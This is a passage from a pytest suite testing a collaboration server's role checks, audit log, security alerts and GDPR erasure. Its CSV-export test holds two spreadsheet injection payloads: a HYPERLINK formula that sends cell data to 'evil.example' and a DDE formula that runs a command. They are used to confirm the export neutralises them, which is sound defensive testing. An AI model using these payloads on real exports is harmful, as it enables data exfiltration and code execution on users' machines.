"""Security and audit: the REST role table, audit events with the seed's fields, the audit API
and export, each security alert type raised by a scenario and resolved, GDPR export and erasure
checked against the stored data.

Policy: loopback only, port 0, a deadline on every I/O test, real servers and a real store;
no sleeps.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path
from typing import Any

import httpx
import pytest
import trio

from crealia import Server, open_server

from ._wsclient import RawClient
from .conftest import Clients, data_store, make_config, opened

ROLES = ("viewer", "commenter", "editor", "owner")
RANK = {role: rank for rank, role in enumerate(ROLES)}
INSERT = {"op": "insert", "element_id": "clip", "element_type": "clip", "props": {"title": "a"}}

#: Every REST endpoint with a body that is valid when allowed, and the least role it needs.
ENDPOINTS: list[tuple[str, str, Any, str]] = [
    ("GET", "/api/projects/p1/snapshot", None, "viewer"),
    ("GET", "/api/collaboration/conflicts", None, "viewer"),
    ("POST", "/api/collaboration/conflicts/detect", {"changes": [INSERT]}, "editor"),
    ("POST", "/api/collaboration/conflicts/c-none/resolve", {"choice": "current"}, "editor"),
    ("GET", "/api/projects/p1/strategies", None, "viewer"),
    ("PUT", "/api/projects/p1/strategies", {"strategies": ["merge", "priority"]}, "owner"),
    ("GET", "/api/collaboration/performance/metrics", None, "owner"),
    ("POST", "/api/collaboration/performance/report", {"startDate": 0, "endDate": 1}, "owner"),
    ("GET", "/api/collaboration/audit", None, "owner"),
    ("POST", "/api/collaboration/audit/export", {}, "owner"),
    ("GET", "/api/collaboration/security/alerts", None, "owner"),
    ("POST", "/api/collaboration/security/alerts/a-none/resolve", {}, "owner"),
    ("POST", "/api/collaboration/gdpr/export", {"userId": "zed"}, "owner"),
    ("POST", "/api/collaboration/gdpr/erase", {"userId": "zed"}, "owner"),
]
SEED_FIELDS = {"id", "userId", "projectId", "action", "resource", "details", "timestamp",
               "ipAddress", "userAgent", "severity", "riskScore"}  # fmt: skip


def bearer(server: Server, user: str, role: str, project: str = "p1") -> dict[str, str]:
    token = server.issue_token(user, project, role)  # type: ignore[arg-type]
    return {"Authorization": f"Bearer {token}", "User-Agent": "crealia-tests/1"}


async def call(
    server: Server, method: str, path: str, body: Any = None, headers: dict[str, str] | None = None
) -> httpx.Response:
    async with httpx.AsyncClient(base_url=server.http_url, timeout=10) as http:
        return await http.request(method, path, json=body, headers=headers or {})


# -- the role table over REST -------------------------------------------------------------------


@pytest.mark.parametrize(("method", "path", "body", "least"), ENDPOINTS)
@pytest.mark.parametrize("role", ROLES)
async def test_rest_role_table(
    server: Server, role: str, method: str, path: str, body: Any, least: str
) -> None:
    with trio.fail_after(10):
        response = await call(server, method, path, body, bearer(server, f"u-{role}", role))
        if RANK[role] >= RANK[least]:
            assert response.status_code not in (401, 403), response.text
        else:
            assert response.status_code == 403, response.text
            error = response.json()["error"]
            assert error["code"] == "forbidden"
            assert least in error["message"] and role in error["message"]
        anonymous = await call(server, method, path, body)
        assert anonymous.status_code == 401
        forged = await call(server, method, path, body, {"Authorization": "Bearer x.y.z"})
        assert forged.status_code == 401


async def test_rest_refuses_other_projects(server: Server) -> None:
    with trio.fail_after(10):
        owner = bearer(server, "olga", "owner", project="p2")
        for method, path, body, _least in ENDPOINTS:
            if "/p1/" in path:
                response = await call(server, method, path, body, owner)
            else:
                response = await call(server, method, path + "?projectId=p1",
                                      {**(body or {}), "projectId": "p1"}, owner)  # fmt: skip
            assert response.status_code == 403, (path, response.text)
            assert "'p2', not 'p1'" in response.json()["error"]["message"]


# -- audit events ---------------------------------------------------------------------------------


async def audit_of(server: Server, **params: str) -> list[dict[str, Any]]:
    """The audit API's answer for an owner of p1, with ``params`` as query arguments."""
    async with httpx.AsyncClient(base_url=server.http_url, timeout=10) as http:
        response = await http.get("/api/collaboration/audit", params=params,
                                  headers=bearer(server, "auditor", "owner"))  # fmt: skip
    assert response.status_code == 200, response.text
    return list(response.json()["events"])


async def test_every_security_relevant_action_is_audited_with_the_seed_fields(
    tmp_path: Path, nursery: trio.Nursery
) -> None:
    config = make_config(tmp_path / "d", strategy_chain=("priority",), abuse_errors=3,
                         rate_limits={"comment": "2/2"})  # fmt: skip
    async with open_server(config) as server, opened(server, nursery) as clients:
        with trio.fail_after(30):
            alice = await clients.join("alice", role="editor")
            bob = await clients.join("bob", role="editor")
            vic = await clients.join("vic", role="viewer")
            await alice.request("timeline_change", {"change_id": "c1", "changes": [INSERT]})
            moved = {"op": "set", "element_id": "clip", "prop": "title", "value": "b", "base": 1}
            await alice.request("timeline_change", {"change_id": "c2", "changes": [moved]})
            stale = {"op": "set", "element_id": "clip", "prop": "title", "value": "c", "base": 1}
            await bob.request("timeline_change", {"change_id": "c3", "changes": [stale]})
            await bob.expect_type("conflict_resolved")  # settled by the priority strategy
            for i in range(3):  # the third is over the comment limit
                comment = {"comment": {"id": f"m{i}", "text": "hi"}}
                await alice.request("comment_add", comment)
            refused = await vic.request("timeline_change", {"change_id": "v", "changes": [INSERT]})
            assert refused["data"]["code"] == "forbidden"
            intruder = await clients.raw()
            await intruder.send("hello", {"token": "not-a-token", "project_id": "p1"}, ref=1)
            assert await intruder.closed() == 4401
            for _ in range(4):  # abuse: more than abuse_errors refused messages
                await vic.send("timeline_change", {"change_id": "v", "changes": [INSERT]}, ref=9)
            assert await vic.closed() == 4429
            await bob.aclose()
            await alice.event("user_left", user_id="bob")
            owner = bearer(server, "olga", "owner")
            chain = {"strategies": ["merge", "priority"]}
            assert (await call(server, "PUT", "/api/projects/p1/strategies", chain,
                               owner)).status_code == 200  # fmt: skip
            assert (await call(server, "GET", "/api/collaboration/audit", None,
                               bearer(server, "vic", "viewer"))).status_code == 403  # fmt: skip
            events = await audit_of(server)
    by_action: dict[str, list[dict[str, Any]]] = {}
    for event in events:
        assert set(event) == SEED_FIELDS
        assert event["projectId"] == "p1"
        assert event["timestamp"].endswith("Z")
        assert event["severity"] in ("low", "medium", "high", "critical")
        assert 0 <= event["riskScore"] <= 100
        by_action.setdefault(event["action"], []).append(event)
    assert {"join", "leave", "edit", "comment", "conflict_resolution", "rate_limited",
            "permission_refused", "token_refused", "abuse_closed",
            "strategy_change"} <= set(by_action)  # fmt: skip
    assert {e["userId"] for e in by_action["join"]} >= {"alice", "bob", "vic"}
    assert [e["userId"] for e in by_action["leave"]].count("bob") == 1
    edits = {e["resource"]: e for e in by_action["edit"]}
    assert edits["timeline:c3"]["details"]["status"] == "conflict"
    assert edits["timeline:c1"]["ipAddress"] == "127.0.0.1"
    resolution = by_action["conflict_resolution"][0]
    assert resolution["details"]["strategy"] == "priority"
    assert [e["resource"] for e in by_action["comment"]] == ["comment:m1", "comment:m0"]
    limited = by_action["rate_limited"][0]
    assert (limited["userId"], limited["resource"]) == ("alice", "comment_add")
    token = by_action["token_refused"][0]
    assert token["userId"] is None and token["severity"] == "high"
    assert token["ipAddress"] == "127.0.0.1"
    assert by_action["permission_refused"][0]["userId"] == "vic"
    assert by_action["abuse_closed"][0]["riskScore"] >= 70
    assert by_action["strategy_change"][0]["userAgent"] == "crealia-tests/1"
    # Newest first.
    stamps = [e["timestamp"] for e in events]
    assert stamps == sorted(stamps, reverse=True)


async def test_rest_refusals_are_audited(server: Server) -> None:
    with trio.fail_after(10):
        await call(server, "GET", "/api/collaboration/audit", None, bearer(server, "ed", "editor"))
        await call(server, "GET", "/api/collaboration/conflicts?projectId=p1", None,
                   {"Authorization": "Bearer forged"})  # fmt: skip
        events = await audit_of(server)
    refused = {e["action"]: e for e in events}
    assert refused["permission_refused"]["userId"] == "ed"
    assert refused["permission_refused"]["resource"] == "GET /api/collaboration/audit"
    assert refused["token_refused"]["projectId"] == "p1"
    assert refused["token_refused"]["userAgent"] == "python-httpx/" + httpx.__version__


async def test_audit_query_filters_and_export_json_and_csv(
    server: Server, clients: Clients
) -> None:
    with trio.fail_after(20):
        alice = await clients.join("alice")
        await clients.join("bob")
        await alice.request("timeline_change", {"change_id": "c1", "changes": [INSERT]})
        mine = await audit_of(server, userId="alice")
        assert {e["action"] for e in mine} == {"join", "edit"}
        edits = await audit_of(server, action="edit")
        assert [e["userId"] for e in edits] == ["alice"]
        everything = await audit_of(server)
        first = min(e["timestamp"] for e in everything)
        assert await audit_of(server, endDate=first) == []
        owner = bearer(server, "olga", "owner")
        path = "/api/collaboration/audit/export"
        as_json = (await call(server, "POST", path, {"userId": "alice"}, owner)).json()
        assert as_json["events"] == mine
        as_csv = await call(server, "POST", path, {"userId": "alice", "format": "csv"}, owner)
        assert as_csv.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(as_csv.text)))
        assert [r["id"] for r in rows] == [e["id"] for e in mine]
        assert json.loads(rows[0]["details"]) == mine[0]["details"]
        bad = await call(server, "POST", path, {"format": "xml"}, owner)
        assert bad.status_code == 400 and "format" in bad.json()["error"]["message"]
        bad = await call(server, "POST", path, {"startDate": "soon"}, owner)
        assert bad.status_code == 400 and "startDate" in bad.json()["error"]["message"]
        exports = await audit_of(server, action="export")
        assert [e["resource"] for e in exports] == ["audit", "audit"]


async def test_csv_exports_neutralise_formulas(server: Server, clients: Clients) -> None:
    """A User-Agent or a comment id chosen by a client never reaches an owner's spreadsheet as
    a formula (OWASP CSV injection): such cells start with ``'``; the JSON exports keep them."""
    link = '=HYPERLINK("http://evil.example/?"&A1,"help")'
    command = "=1+cmd|' /C calc'!A0"
    with trio.fail_after(20):
        alice = await clients.join("alice")
        await alice.request("comment_add", {"comment": {"id": command, "text": "@SUM(1+1)"}})
        headers = {**bearer(server, "olga", "owner"), "User-Agent": link}
        chain = {"strategies": ["merge", "priority"]}
        assert (await call(server, "PUT", "/api/projects/p1/strategies", chain,
                           headers)).status_code == 200  # fmt: skip
        owner = bearer(server, "olga", "owner")
        audit = await call(server, "POST", "/api/collaboration/audit/export", {"format": "csv"},
                           owner)  # fmt: skip
        gdpr = await call(server, "POST", "/api/collaboration/gdpr/export",
                          {"userId": "alice", "format": "csv"}, owner)  # fmt: skip
        as_json = await call(server, "POST", "/api/collaboration/gdpr/export",
                             {"userId": "alice"}, owner)  # fmt: skip
    audit_rows = list(csv.DictReader(io.StringIO(audit.text)))
    agents = {r["userAgent"] for r in audit_rows}
    assert "'" + link in agents and link not in agents
    gdpr_rows = list(csv.reader(io.StringIO(gdpr.text)))
    cells = [cell for row in gdpr_rows for cell in row]
    assert "'" + command in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert as_json.json()["comments"][0]["id"] == command  # the data itself is unchanged


def test_csv_safe_cells() -> None:
    from crealia._http import csv_safe

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_safe(start + "1") == "'" + start + "1"
    assert [csv_safe(v) for v in ("ok", "", "a=b", -3, 2.5, None)] == ["ok", "", "a=b", -3, 2.5,
                                                                      None]  # fmt: skip


async def test_audit_retention_deletes_old_events(server: Server) -> None:
    server.hub.audit.record("join", user_id="old", project_id="p1")
    server.hub.audit.record("join", user_id="new", project_id="p1")
    with trio.fail_after(10):
        await server.hub.audit.flush()
        with sqlite3.connect(server.ops.path) as conn:
            conn.execute("UPDATE audit_events SET at = at - ? WHERE user_id = 'old'",
                         (91 * 86_400_000,))  # fmt: skip
        assert await server.hub.audit.prune() == 1
        users = {e["userId"] for e in await audit_of(server)}
    assert users == {"new"}


async def attacker_hello(nursery: trio.Nursery, server: Server, project: str) -> tuple[Any, Any]:
    """A bad-token hello from 127.0.0.2 (another address than the users'): (reply, close)."""
    import trio_websocket

    stream = await trio.open_tcp_stream("127.0.0.1", server.ws_port, local_address="127.0.0.2")
    ws = await trio_websocket.wrap_client_stream(nursery, stream, "127.0.0.1", "/ws")
    client = RawClient(ws)
    reply = await client.request("hello", {"token": "bad", "project_id": project})
    return reply, await client.closed()


async def test_a_refused_token_flood_is_limited_aggregated_and_bounded(
    tmp_path: Path, nursery: trio.Nursery
) -> None:
    """One client floods refused tokens (REST with a 15 KB path, WebSocket hellos) from its own
    address: past its pre-authentication burst it is refused before its token is looked at,
    the audit log keeps about one bounded event per second and action, the refusals are all
    counted, and users on other addresses go on unaffected."""
    config = make_config(tmp_path / "d", preauth_rest_limit="60/20",
                         preauth_handshake_limit="60/10")  # fmt: skip
    long_path = "/api/projects/" + "x" * 15_000 + "/snapshot"
    attacker = httpx.AsyncHTTPTransport(local_address="127.0.0.2")
    async with open_server(config) as server, opened(server, nursery) as clients:
        with trio.fail_after(30):
            alice = await clients.join("alice")
            started = trio.current_time()
            statuses: list[int] = []
            async with httpx.AsyncClient(base_url=server.http_url, transport=attacker) as http:
                for _ in range(40):
                    response = await http.get(
                        long_path,
                        headers={"Authorization": "Bearer x.y.z", "User-Agent": "u" * 5000},
                    )
                    statuses.append(response.status_code)
            closes = [(await attacker_hello(nursery, server, f"v{i}"))[1] for i in range(15)]
            ack = await alice.request("timeline_change", {"change_id": "c1", "changes": [INSERT]})
            assert ack["type"] == "ack"  # the users' address is not limited
            ok = await call(server, "GET", "/api/projects/p1/snapshot", None,
                            bearer(server, "olga", "viewer"))  # fmt: skip
            assert ok.status_code == 200
            await server.hub.audit.flush()
            elapsed = trio.current_time() - started
    assert statuses.count(401) == 20 and statuses.count(429) == 20
    assert closes.count(4401) == 10 and closes.count(4429) == 5
    with sqlite3.connect(server.ops.path) as conn:
        rows = [(action, data) for action, data in conn.execute(
            "SELECT action, data FROM audit_events ORDER BY rowid")]  # fmt: skip
    flood = [(a, json.loads(d), len(d)) for a, d in rows if json.loads(d)["ip_address"] ==
             "127.0.0.2"]  # fmt: skip
    refused: dict[str, int] = {}
    for action, event, size in flood:
        assert size <= 8192 and len(event["resource"]) <= 256
        assert len(event["user_agent"]) <= 256
        refused[action] = refused.get(action, 0) + event["details"]["refused"]
    assert refused == {"token_refused": 30, "rate_limited": 25}
    # One event per (address, action) and second, at most (one more for each query's flush).
    assert len(flood) <= 2 * (int(elapsed) + 2), (len(flood), elapsed)


@pytest.mark.settings(rate_limits={"rest": "5/5"})
async def test_rest_rate_limit_refusals_are_audited_once_a_second(server: Server) -> None:
    with trio.fail_after(20):
        headers = bearer(server, "ed", "editor")
        statuses = [(await call(server, "GET", "/api/collaboration/conflicts", None,
                                headers)).status_code for _ in range(20)]  # fmt: skip
        events = await audit_of(server, action="rate_limited")
    assert statuses.count(429) == 15
    assert sum(e["details"]["refused"] for e in events) == 15
    assert 1 <= len(events) <= 3, [e["timestamp"] for e in events]


@pytest.mark.settings(ops_max_bytes=1024**2)
async def test_ops_database_is_pruned_oldest_first_under_its_cap(server: Server) -> None:
    audit = server.hub.audit
    with trio.fail_after(60):
        for i in range(3000):
            audit.record("edit", user_id=f"u{i}", project_id="p1", details={"pad": "x" * 900})
        await audit.flush()
        deleted = await audit.enforce_cap()
        metrics = (await call(server, "GET", "/metrics")).text
    assert deleted > 0 and audit.size_pruned == deleted and audit.size_prunes == 1
    assert audit.db_bytes <= 1024**2
    with sqlite3.connect(server.ops.path) as conn:
        users = [u for (u,) in conn.execute("SELECT user_id FROM audit_events ORDER BY rowid")]
    assert users[-1] == "u2999" and "u0" not in users  # the oldest went first
    assert users == [f"u{i}" for i in range(3000 - len(users), 3000)]
    assert f"crealia_ops_pruned_rows_total {float(deleted)}" in metrics
    assert "crealia_ops_db_bytes" in metrics


def test_audit_and_preauth_settings_are_checked(tmp_path: Path) -> None:
    from crealia import Config, ConfigurationError

    env = {
        "CREALIA_PREAUTH_HANDSHAKE_LIMIT": "30/5",
        "CREALIA_PREAUTH_REST_LIMIT": "off",
        "CREALIA_AUDIT_REFUSAL_WINDOW": "2",
        "CREALIA_OPS_MAX_BYTES": str(64 * 1024**2),
    }
    config = Config.from_env(env)
    assert (config.preauth_handshake_limit, config.preauth_rest_limit) == ("30/5", "off")
    assert (config.audit_refusal_window, config.ops_max_bytes) == (2.0, 64 * 1024**2)
    for bad in ({"preauth_rest_limit": "lots"}, {"preauth_handshake_limit": "0/5"},
                {"ops_max_bytes": 1000}, {"audit_refusal_window": 61}):  # fmt: skip
        with pytest.raises((ConfigurationError, ValueError)):
            make_config(tmp_path, **bad)


# -- security alerts ------------------------------------------------------------------------------


async def open_alerts(server: Server, project: str = "p1") -> list[dict[str, Any]]:
    response = await call(server, "GET", "/api/collaboration/security/alerts?status=open", None,
                          bearer(server, "olga", "owner", project))  # fmt: skip
    assert response.status_code == 200, response.text
    return list(response.json()["alerts"])


async def resolve(server: Server, alert: dict[str, Any], project: str = "p1") -> dict[str, Any]:
    path = f"/api/collaboration/security/alerts/{alert['id']}/resolve"
    response = await call(server, "POST", path, {"note": "looked into it"},
                          bearer(server, "olga", "owner", project))  # fmt: skip
    assert response.status_code == 200, response.text
    again = await call(server, "POST", path, {}, bearer(server, "olga", "owner", project))
    assert again.status_code == 404
    return dict(response.json())


async def test_each_security_alert_type_is_raised_and_resolved(
    tmp_path: Path, nursery: trio.Nursery
) -> None:
    config = make_config(tmp_path / "d", security_alert_threshold=3, abuse_errors=50,
                         rate_limits={"comment": "2/2"}, audit_rate_limited_every=0)  # fmt: skip
    async with open_server(config) as server, opened(server, nursery) as clients:
        with trio.fail_after(30):
            # permission_escalation: a viewer keeps trying editor actions.
            vic = await clients.join("vic", role="viewer")
            for i in range(3):
                await vic.request("timeline_change", {"change_id": f"v{i}", "changes": [INSERT]})
            # rate_limit_exceeded: an editor keeps hitting the comment limit.
            eve = await clients.join("eve", role="editor")
            for i in range(5):
                await eve.request("comment_add", {"comment": {"id": f"e{i}", "text": "x"}})
            # unauthorized_access: bad tokens from one address.
            for _ in range(3):
                intruder = await clients.raw()
                await intruder.send("hello", {"token": "bad", "project_id": "p1"}, ref=1)
                assert await intruder.closed() == 4401
            # data_breach: one person exporting three projects' audit logs.
            for project in ("p1", "p2", "p3"):
                response = await call(server, "POST", "/api/collaboration/audit/export", {},
                                      bearer(server, "mallory", "owner", project))  # fmt: skip
                assert response.status_code == 200
            # suspicious_activity: a session closed for abuse.
            troll = await clients.join("troll", role="viewer")
            for _ in range(51):
                await troll.send_raw("{not json")
            assert await troll.closed() == 4429
            raised = await open_alerts(server) + await open_alerts(server, "p3")
            by_type = {a["type"]: a for a in raised}
            assert set(by_type) == {"permission_escalation", "rate_limit_exceeded",
                                    "unauthorized_access", "data_breach",
                                    "suspicious_activity"}  # fmt: skip
            assert by_type["permission_escalation"]["userId"] == "vic"
            assert by_type["rate_limit_exceeded"]["userId"] == "eve"
            assert by_type["unauthorized_access"]["ipAddress"] == "127.0.0.1"
            assert by_type["data_breach"]["projectId"] == "p3"
            assert by_type["data_breach"]["severity"] == "critical"
            assert by_type["suspicious_activity"]["userId"] == "troll"
            for alert in raised:
                assert alert["resolved"] is False and alert["count"] >= 1
                project = alert["projectId"]
                done = await resolve(server, alert, project)
                assert done["resolved"] is True and done["resolvedBy"] == "olga"
                assert done["note"] == "looked into it"
            assert await open_alerts(server) == await open_alerts(server, "p3") == []
            resolutions = await audit_of(server, action="alert_resolution")
            assert len(resolutions) == len([a for a in raised if a["projectId"] == "p1"])
            listed = await call(server, "GET", "/api/collaboration/security/alerts?status=resolved",
                                None, bearer(server, "olga", "owner"))  # fmt: skip
            assert {a["type"] for a in listed.json()["alerts"]} == set(by_type) - {"data_breach"}


async def test_bad_tokens_naming_many_projects_raise_one_alert(
    tmp_path: Path, nursery: trio.Nursery
) -> None:
    config = make_config(tmp_path / "d", security_alert_threshold=2)
    async with open_server(config) as server, opened(server, nursery) as clients:
        with trio.fail_after(20):
            for i in range(9):
                if i == 8:
                    await server.security.reload()  # as after a restart: still the same alert
                intruder = await clients.raw()
                await intruder.send("hello", {"token": "bad", "project_id": f"v{i}"}, ref=1)
                assert await intruder.closed() == 4401
            alerts = await server.security.open_alerts()
    assert [(a.type, a.subject, a.count) for a in alerts] == [
        ("unauthorized_access", "ip:127.0.0.1", 8)
    ]


async def test_an_address_alert_is_seen_by_every_project_it_concerns(
    tmp_path: Path, nursery: trio.Nursery
) -> None:
    """The issue's scenario: five bad REST calls naming no project raise the address's alert;
    later attacks on p1 and p3 must show it to their owners (each with its own id only), and
    every other owner sees it as server-wide, without any project's id."""
    config = make_config(tmp_path / "d", security_alert_threshold=5)
    forged = {"Authorization": "Bearer forged"}
    async with open_server(config) as server, opened(server, nursery) as clients:
        with trio.fail_after(30):
            for _ in range(5):
                response = await call(server, "GET", "/api/collaboration/conflicts", None, forged)
                assert response.status_code == 401
            assert [a.project_id for a in await server.security.open_alerts()] == [None]
            for victim in ("p1", "p3", "p1"):
                intruder = await clients.raw()
                await intruder.send("hello", {"token": "bad", "project_id": victim}, ref=1)
                assert await intruder.closed() == 4401
            seen = {p: await open_alerts(server, p) for p in ("p1", "p2", "p3")}
            for project, alerts in seen.items():
                assert [a["type"] for a in alerts] == ["unauthorized_access"], project
                assert alerts[0]["count"] == 4  # found at the 5th refusal, repeated 3 times
            assert seen["p1"][0]["projectId"] == "p1"
            assert seen["p3"][0]["projectId"] == "p3"
            assert seen["p2"][0]["projectId"] is None  # server-wide
            for project, alerts in seen.items():
                others = {"p1", "p3"} - {project}
                text = json.dumps(alerts)
                assert not [p for p in others if f'"{p}"' in text], (project, text)
            # p2 is not concerned: it may see, not resolve; p3 may, for everyone.
            path = f"/api/collaboration/security/alerts/{seen['p1'][0]['id']}/resolve"
            assert (
                await call(server, "POST", path, {}, bearer(server, "olga", "owner", "p2"))
            ).status_code == 404
            done = await resolve(server, seen["p3"][0], "p3")
            assert done["projectId"] == "p3" and done["resolved"] is True
            assert await open_alerts(server, "p1") == []
            resolved = await call(
                server,
                "GET",
                "/api/collaboration/security/alerts?status=resolved",
                None,
                bearer(server, "olga", "owner"),
            )
            assert [a["projectId"] for a in resolved.json()["alerts"]] == ["p1"]


async def test_repeated_findings_raise_one_alert_with_a_count(
    server: Server, clients: Clients
) -> None:
    with trio.fail_after(20):
        vic = await clients.join("vic", role="viewer")
        for i in range(12):
            await vic.request("timeline_change", {"change_id": f"v{i}", "changes": [INSERT]})
        alerts = await open_alerts(server)
    assert [a["type"] for a in alerts] == ["permission_escalation"]
    assert alerts[0]["count"] == 12 - 5 + 1  # found at the 5th refusal, counted after


async def test_security_alerts_reach_webhooks_and_live_feed(
    tmp_path: Path, nursery: trio.Nursery
) -> None:
    from ._http_receiver import start_receiver

    receiver = await start_receiver(nursery)
    config = make_config(tmp_path / "d", security_alert_threshold=2, metrics_interval=3600,
                         alert_webhooks=(receiver.url,))  # fmt: skip
    async with open_server(config) as server, opened(server, nursery) as clients:
        with trio.fail_after(20):
            olga = await clients.join("olga", role="owner")
            assert (await olga.request("metrics_subscribe", {}))["type"] == "ack"
            vic = await clients.join("vic", role="viewer")
            for i in range(2):
                await vic.request("timeline_change", {"change_id": f"v{i}", "changes": [INSERT]})
            pushed = (await olga.expect_type("security_alert"))["data"]
            await receiver.wait_received(1)
    assert pushed["type"] == "permission_escalation"
    # The operator's webhook also hears every project the alert concerns.
    assert receiver.received == [{"alert": {**pushed, "projects": ["p1"], "serverWide": False}}]
    assert pushed["category"] == "security"


# -- GDPR -----------------------------------------------------------------------------------------


async def seed_alice(clients: Clients) -> tuple[RawClient, RawClient]:
    alice = await clients.join("alice", role="editor")
    bob = await clients.join("bob", role="editor")
    await alice.request("timeline_change", {"change_id": "a1", "changes": [INSERT]})
    moved = {"op": "set", "element_id": "clip", "prop": "title", "value": "alice's", "base": 1}
    await alice.request("timeline_change", {"change_id": "a2", "changes": [moved]})
    secret = {"comment": {"id": "m1", "text": "alice-secret-comment", "element_id": "clip"}}
    await alice.request("comment_add", secret)
    await bob.request("comment_add", {"comment": {"id": "m2", "text": "bob's note"}})
    stale = {"op": "set", "element_id": "clip", "prop": "title", "value": "bob's", "base": 1}
    await bob.request("timeline_change", {"change_id": "b1", "changes": [stale]})
    await bob.expect_type("conflict_resolved")
    return alice, bob


async def test_gdpr_export_matches_the_stored_data(server: Server, clients: Clients) -> None:
    with trio.fail_after(20):
        await seed_alice(clients)
        owner = bearer(server, "olga", "owner")
        path = "/api/collaboration/gdpr/export"
        export = (await call(server, "POST", path, {"userId": "alice"}, owner)).json()
        as_csv = await call(server, "POST", path, {"userId": "alice", "format": "csv"}, owner)
    with sqlite3.connect(data_store(server).path) as conn:
        comments = conn.execute("SELECT comment_id, text FROM comments WHERE user_id = 'alice'")
        stored_comments = [tuple(row) for row in comments]
        stored_edits = [row[0] for row in conn.execute(
            "SELECT seq FROM events WHERE user_id = 'alice' AND kind != 'comment_add' ORDER BY seq"
        )]  # fmt: skip
    with sqlite3.connect(server.ops.path) as conn:
        audit = [row[0] for row in conn.execute(
            "SELECT id FROM audit_events WHERE user_id = 'alice' ORDER BY at")]  # fmt: skip
    assert (export["userId"], export["projectId"]) == ("alice", "p1")
    assert [(c["id"], c["text"]) for c in export["comments"]] == stored_comments
    assert stored_comments == [("m1", "alice-secret-comment")]
    assert [e["seq"] for e in export["edits"]] == stored_edits == [1, 2]
    assert [e["payload"]["change_id"] for e in export["edits"]] == ["a1", "a2"]
    assert len(export["conflicts"]) == 1
    assert export["conflicts"][0]["current"]["user_id"] == "alice"
    assert [e["id"] for e in export["audit"]] == audit
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    kinds = [r["kind"] for r in rows]
    assert kinds.count("comment") == 1 and kinds.count("edit") == 2
    assert kinds.count("conflict") == 1 and kinds.count("audit") == len(audit)
    assert "alice-secret-comment" in as_csv.text


async def test_gdpr_erasure_deletes_content_and_pseudonymizes_the_rest(
    server: Server, clients: Clients
) -> None:
    with trio.fail_after(30):
        _alice, bob = await seed_alice(clients)
        owner = bearer(server, "olga", "owner")
        exported = await call(server, "POST", "/api/collaboration/gdpr/export",
                              {"userId": "alice"}, owner)  # fmt: skip
        assert exported.status_code == 200  # audited with resource "user:alice"
        editor = bearer(server, "ed", "editor")
        refused = await call(server, "POST", "/api/collaboration/gdpr/erase", {"userId": "alice"},
                             editor)  # fmt: skip
        assert refused.status_code == 403
        response = await call(server, "POST", "/api/collaboration/gdpr/erase",
                              {"userId": "alice"}, owner)  # fmt: skip
        assert response.status_code == 200, response.text
        result = response.json()
        assert await bob.closed() == 1011  # the room closed for the rewrite; clients resume
        pseudonym = result["pseudonym"]
        assert pseudonym.startswith("erased-")
        assert result["erased"]["comments"] == 1
        again = await clients.join("bob", role="editor")
        snapshot = again.welcome["snapshot"]
        export = (await call(server, "POST", "/api/collaboration/gdpr/export",
                             {"userId": "alice"}, owner)).json()  # fmt: skip
        erasures = await audit_of(server, action="erasure")
    assert export["comments"] == export["edits"] == export["conflicts"] == export["audit"] == []
    text = json.dumps(snapshot)
    assert "alice" not in text.replace("alice's", "")  # the value bob's edit replaced stays out
    with sqlite3.connect(data_store(server).path) as conn:
        dump = "\n".join(conn.iterdump())
        bob_comment = conn.execute("SELECT text FROM comments WHERE comment_id = 'm2'").fetchone()
    with sqlite3.connect(server.ops.path) as conn:
        dump += "\n".join(conn.iterdump())
        audit_rows = conn.execute(
            "SELECT data FROM audit_events WHERE user_id = ?", (pseudonym,)
        ).fetchall()
    assert "alice-secret-comment" not in dump
    # No trace of her id anywhere (her edit's value "alice's" is content, not identity).
    assert re.findall(r"(?<![\w-])alice(?![\w'-])", dump) == []
    assert f"'{pseudonym}'" in dump  # her edits stay, under the pseudonym
    assert bob_comment == ("bob's note",)
    assert audit_rows, "the audit trail is kept, pseudonymized"
    for (data,) in audit_rows:
        event = json.loads(data)
        assert event["ip_address"] == "" and event["user_agent"] == ""
    assert erasures[0]["userId"] == "olga"
    assert erasures[0]["resource"] == f"user:{pseudonym}"


async def test_gdpr_erasure_rewrites_attribution_never_content(
    server: Server, clients: Clients
) -> None:
    """The issue's scenario: erasing user "42" must not touch bob's element "42", a prop named
    "42" nor a value "42"; bob, resuming with the epoch he had, gets the rewritten history as a
    snapshot (never a replay of nothing over a stale document)."""
    with trio.fail_after(30):
        mine = await clients.join("42", role="editor")
        bob = await clients.join("bob", role="editor")
        epoch = bob.welcome["epoch"]
        ours = {"op": "insert", "element_id": "42", "element_type": "clip",
                "props": {"42": "bob's prop named 42", "title": "42", "start": 42}}  # fmt: skip
        ack = await bob.request("timeline_change", {"change_id": "42", "changes": [ours]})
        assert ack["type"] == "ack"
        theirs = {"op": "insert", "element_id": "clip-of-42", "element_type": "clip",
                  "props": {"title": "by 42"}}  # fmt: skip
        await mine.request("timeline_change", {"change_id": "c42", "changes": [theirs]})
        await mine.request("comment_add", {"comment": {"id": "m42", "text": "42's own words"}})
        bobs_comment = {"id": "42", "text": "42", "element_id": "42"}
        await bob.request("comment_add", {"comment": bobs_comment})
        # A conflict between them, settled by a strategy: its attribution names 42.
        stale = {"op": "set", "element_id": "clip-of-42", "prop": "title", "value": "42",
                 "base": 1}  # fmt: skip
        bob_moves = {"op": "set", "element_id": "clip-of-42", "prop": "title", "value": "bob's",
                     "base": 2}  # fmt: skip
        await bob.request("timeline_change", {"change_id": "b1", "changes": [bob_moves]})
        await mine.request("timeline_change", {"change_id": "c43", "changes": [stale]})
        await bob.expect_type("conflict_resolved")
        head = (await call(server, "GET", "/api/projects/p1/snapshot", None,
                           bearer(server, "bob", "viewer"))).json()  # fmt: skip
        with sqlite3.connect(data_store(server).path) as conn:
            bobs_before = conn.execute(
                "SELECT seq, kind, user_id, payload, effects FROM events WHERE user_id = 'bob' "
                "ORDER BY seq").fetchall()  # fmt: skip
        response = await call(server, "POST", "/api/collaboration/gdpr/erase", {"userId": "42"},
                              bearer(server, "olga", "owner"))  # fmt: skip
        assert response.status_code == 200, response.text
        pseudonym = response.json()["pseudonym"]
        assert await bob.closed() == 1011
        back = await clients.join("bob", role="editor", resume=head["seq"], epoch=epoch)
    assert back.welcome["epoch"] != epoch
    assert "replayed" not in back.welcome, "a rewritten history is never replayed"
    snapshot = back.welcome["snapshot"]
    assert snapshot["elements"]["42"] == head["elements"]["42"] == {
